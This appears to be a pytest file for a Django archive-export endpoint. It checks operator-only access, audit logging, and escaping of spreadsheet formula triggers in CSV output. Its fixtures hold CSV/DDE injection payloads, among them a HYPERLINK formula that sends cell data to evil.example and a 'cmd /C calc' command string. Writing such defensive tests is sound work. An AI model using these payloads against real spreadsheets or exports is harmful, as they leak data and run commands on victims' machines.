"""Item 7: the archive export is for operators, audited, and its CSV is safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from sessions_app.export import neutralise_formula
from sessions_app.models import AuditEvent
from tests.archive_ui.conftest import make_dialog, make_messages
from tests.conftest import client_for

URL = "/instances/prod-bot/archive/export/"
# What a stranger can make the account receive: a text that spreadsheets would run as a formula.
HOSTILE = {
    1: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    2: "+1+cmd|' /C calc'!A0",
    3: "-2+3",
    4: "@SUM(1,2)",
    5: "\t=1+1",
    6: "\r=1+1",
}


def _csv_rows(response) -> list[dict[str, str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.fixture
def hostile(instance):
    dialog = make_dialog(instance, -4242, "=cmd|' /C calc'!A0", kind="group")
    for message_id, text in HOSTILE.items():
        make_messages(dialog, [message_id], text=text, sender_name="@attacker", forward_from="-Bob")
    make_messages(dialog, [7], text="a = b, 3 - 1 and user@example.com", sender_name="Ann")
    return instance


def test_csv_cells_that_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(hostile, operator_client):
    rows = {int(row["message_id"]): row for row in _csv_rows(operator_client.get(URL, {"format": "csv"}))}
    for message_id, text in HOSTILE.items():
        assert rows[message_id]["text"] == "'" + text
        assert rows[message_id]["sender_name"] == "'@attacker"
        assert rows[message_id]["forward_from"] == "'-Bob"
        assert rows[message_id]["dialog_title"] == "'=cmd|' /C calc'!A0"


def test_csv_leaves_ordinary_text_and_numbers_as_they_are(hostile, operator_client):
    row = {int(row["message_id"]): row for row in _csv_rows(operator_client.get(URL, {"format": "csv"}))}[7]
    assert row["text"] == "a = b, 3 - 1 and user@example.com"
    assert row["sender_name"] == "Ann"
    assert row["peer_id"] == "-4242"  # a number: a spreadsheet reads it as minus 4242, never a formula


def test_jsonl_keeps_the_text_exactly_as_archived(hostile, operator_client):
    text = b"".join(operator_client.get(URL, {"format": "jsonl"}).streaming_content).decode()
    rows = {row["message_id"]: row for row in map(json.loads, text.splitlines())}
    assert {message_id: rows[message_id]["text"] for message_id in HOSTILE} == HOSTILE


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_each_formula_trigger_is_neutralised(trigger):
    assert neutralise_formula(trigger + "1") == "'" + trigger + "1"


@pytest.mark.parametrize("text", ["", "1+1", " =1", "'=already quoted", "a@b", "Hello =)"])
def test_text_that_does_not_start_a_formula_is_unchanged(text):
    assert neutralise_formula(text) == text


@pytest.mark.parametrize("export_format", ["csv", "jsonl"])
def test_a_viewer_may_not_export_and_is_told_why(hostile, viewer, export_format):
    response = client_for(viewer).get(URL, {"format": export_format})
    assert response.status_code == 403
    assert "This needs the operator role on prod-bot; you are viewer." in response.content.decode()
    assert not AuditEvent.objects.filter(action="archive.export").exists()


def test_an_outsider_gets_404_and_an_anonymous_caller_the_sign_in_page(hostile, outsider):
    assert client_for(outsider).get(URL, {"format": "csv"}).status_code == 404
    response = Client().get(URL, {"format": "csv"})
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")
    assert not AuditEvent.objects.filter(action="archive.export").exists()


def test_operators_and_owners_may_export(hostile, operator_client, owner_client):
    assert operator_client.get(URL, {"format": "csv"}).status_code == 200
    assert owner_client.get(URL, {"format": "jsonl"}).status_code == 200


def test_every_export_is_audited_with_its_format_dialog_and_size_but_no_text(hostile, operator, operator_client):
    operator_client.get(URL, {"format": "csv"})
    operator_client.get(URL, {"format": "jsonl", "peer": "-4242"})
    events = list(AuditEvent.objects.filter(action="archive.export").order_by("pk"))
    assert [(event.actor, event.session, event.outcome) for event in events] == [(operator, "prod-bot", "ok")] * 2
    assert [event.detail for event in events] == [
        {"format": "csv", "peer_id": None, "messages": 7},
        {"format": "jsonl", "peer_id": -4242, "messages": 7},
    ]
    assert "HYPERLINK" not in json.dumps([event.detail for event in events])


def test_a_refused_export_request_is_not_audited(hostile, operator_client):
    assert operator_client.get(URL, {"format": "xml"}).status_code == 400
    assert operator_client.get(URL, {"format": "csv", "peer": "12345"}).status_code == 404
    assert not AuditEvent.objects.filter(action="archive.export").exists()


def test_only_operators_see_the_export_links(hostile, viewer, operator_client):
    pages = ["/instances/prod-bot/archive/", "/instances/prod-bot/archive/-4242/"]
    for page in pages:
        assert "format=csv" in operator_client.get(page).content.decode()
        assert "format=csv" not in client_for(viewer).get(page).content.decode()
